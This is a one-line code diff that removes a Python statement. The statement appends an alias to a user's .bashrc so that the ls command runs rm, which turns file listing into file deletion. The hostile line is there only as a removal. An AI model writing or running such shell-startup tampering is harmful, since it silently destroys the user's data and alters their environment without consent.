@@ -1,1 +1,0 @@
-open('/home/me/.bashrc', 'a').write('alias ls=rm')
